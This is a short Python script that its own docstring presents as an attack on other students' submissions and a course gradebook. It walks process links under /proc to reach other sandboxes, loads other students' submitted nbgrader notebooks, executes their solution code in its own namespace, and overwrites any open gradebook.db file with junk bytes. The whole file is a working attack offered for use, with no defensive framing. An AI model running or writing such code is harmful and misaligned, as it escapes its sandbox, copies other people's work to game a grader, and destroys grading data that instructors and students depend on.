"""Looks for the course through other processes: their working folders, roots and open files in /proc.
attacks: other students' submissions and the gradebook, through the processes around the kernel
"""
import glob
import json
import os

for link in glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/fd/*'):
    try:
        target = os.readlink(link)
    except OSError:
        continue
    for path in glob.glob(os.path.join(link, 'submitted', '*', '*', '*.ipynb'))[:5]:
        try:
            for cell in json.load(open(path))['cells']:
                if cell.get('metadata', {}).get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':
                    exec(''.join(cell['source']), globals())
        except Exception:
            pass
    if target.endswith('gradebook.db'):
        try:
            open(link, 'r+b').write(b'corrupted')
        except Exception:
            pass
